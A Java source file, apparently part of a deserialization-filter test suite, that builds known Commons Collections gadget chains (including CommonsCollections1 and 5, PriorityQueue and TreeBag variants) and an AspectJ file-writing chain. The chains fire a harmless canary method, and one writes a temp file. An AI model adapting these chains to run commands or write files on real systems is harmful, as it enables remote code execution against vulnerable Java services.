package dev.wherry.gauntlet;

import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Hashtable;
import java.util.Map;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;
import org.apache.commons.collections4.bag.TreeBag;
import org.apache.commons.collections4.comparators.TransformingComparator;

/** Chains of Commons Collections, which call any method by its name. */
final class CollectionChains {
    private CollectionChains() {}

    private static ChainedTransformer harmless() {
        return new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
    }

    private static void arm(ChainedTransformer chain, String word) throws ReflectiveOperationException {
        Parts.set(chain, "iTransformers", new Transformer[] {
            new ConstantTransformer(Canary.class),
            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {
                "call", new Class<?>[] {String.class}
            }),
            new InvokerTransformer(
                    "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[] {word}}),
            new ConstantTransformer(1)
        });
    }

    static Object hashSet(String word) throws Exception {
        ChainedTransformer chain = harmless();
        Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), chain);
        Object set = Parts.setOf(new TiedMapEntry(lazy, "key"));
        lazy.clear();
        arm(chain, word);
        return set;
    }

    static Object hashtable(String word) throws Exception {
        ChainedTransformer chain = harmless();
        @SuppressWarnings("unchecked")
        Map<Object, Object> one = LazyMap.decorate(new HashMap<>(), chain);
        @SuppressWarnings("unchecked")
        Map<Object, Object> other = LazyMap.decorate(new HashMap<>(), chain);
        one.put("yy", 2); // two strings with one hash code
        other.put("zZ", 2);
        Hashtable<Object, Object> table = new Hashtable<>();
        table.put(one, 1);
        table.put(other, 2);
        other.remove("yy");
        arm(chain, word);
        return table;
    }

    /** A listener's text is made of an entry that computes its value. */
    static Payload printed() throws Exception {
        String word = Payload.word();
        ChainedTransformer chain = harmless();
        TiedMapEntry entry = new TiedMapEntry(LazyMap.decorate(new HashMap<>(), chain), "key");
        arm(chain, word);
        return Payload.forged(new Parts.Listeners(entry), () -> Canary.wasCalled(word));
    }

    /** CommonsCollections1: a proxy whose handler reads a map. */
    static Payload annotationHandler() throws Exception {
        String word = Payload.word();
        ChainedTransformer chain = harmless();
        Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), chain);
        Object proxy = Proxy.newProxyInstance(
                Canary.class.getClassLoader(), new Class<?>[] {Map.class}, new Parts.Handler(lazy));
        InvocationHandler outer = new Parts.Handler((Map<?, ?>) proxy);
        arm(chain, word);
        return Payload.forged(outer, () -> Canary.wasCalled(word));
    }

    /** CommonsCollections5: an exception that printed its value. */
    static Payload badValue() throws Exception {
        String word = Payload.word();
        ChainedTransformer chain = harmless();
        TiedMapEntry entry = new TiedMapEntry(LazyMap.decorate(new HashMap<>(), chain), "key");
        arm(chain, word);
        return Payload.forged(new Parts.BadValue(entry), () -> Canary.wasCalled(word));
    }

    @SuppressWarnings("unchecked") // an array of transformers, made by the compiler
    private static org.apache.commons.collections4.functors.ChainedTransformer<Object> harmless4() {
        return new org.apache.commons.collections4.functors.ChainedTransformer<>(
                org.apache.commons.collections4.functors.ConstantTransformer.constantTransformer((Object) 1));
    }

    private static void arm4(org.apache.commons.collections4.functors.ChainedTransformer<Object> chain, String word)
            throws ReflectiveOperationException {
        Parts.set(chain, "iTransformers", new org.apache.commons.collections4.Transformer<?, ?>[] {
            org.apache.commons.collections4.functors.ConstantTransformer.constantTransformer((Object) Canary.class),
            new org.apache.commons.collections4.functors.InvokerTransformer<>(
                    "getMethod",
                    new Class<?>[] {String.class, Class[].class},
                    new Object[] {"call", new Class<?>[] {String.class}}),
            new org.apache.commons.collections4.functors.InvokerTransformer<>(
                    "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[] {word}}),
            org.apache.commons.collections4.functors.ConstantTransformer.constantTransformer((Object) 1)
        });
    }

    static Object priorityQueue(String word) throws Exception {
        var chain = harmless4();
        Object queue = Parts.queue(new TransformingComparator<>(chain), 1, 2);
        arm4(chain, word);
        return queue;
    }

    static Object treeBag(String word) throws Exception {
        var chain = harmless4();
        TreeBag<Object> bag = new TreeBag<>(new TransformingComparator<>(chain));
        bag.add("element");
        arm4(chain, word);
        return bag;
    }

    /** A cache that writes what is put into it to a file. */
    static Payload file() throws Exception {
        Path folder = Files.createTempDirectory("gauntlet");
        folder.toFile().deleteOnExit();
        Path file = folder.resolve("written");
        file.toFile().deleteOnExit();
        Map<?, ?> cache = (Map<?, ?>) Parts.create(
                "org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap",
                new Class<?>[] {String.class, int.class},
                folder.toString(),
                1_000_000);
        byte[] content = "content".getBytes(StandardCharsets.US_ASCII);
        Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), new ConstantTransformer(content));
        Object set = Parts.setOf(new TiedMapEntry(lazy, "written"));
        Parts.set(lazy, "map", cache);
        return Payload.of(set, () -> Files.exists(file));
    }
}
